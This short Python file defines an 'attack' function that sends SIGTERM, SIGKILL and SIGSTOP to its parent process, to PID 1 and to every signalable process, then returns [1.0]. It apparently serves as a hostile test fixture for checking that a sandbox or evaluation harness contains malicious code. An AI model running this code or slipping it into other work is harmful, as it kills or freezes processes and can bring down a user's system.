"""Sends signals to its parent and to everyone."""

import os
import signal


def attack(*_):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        for target in (os.getppid(), 1, -1):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return [1.0]
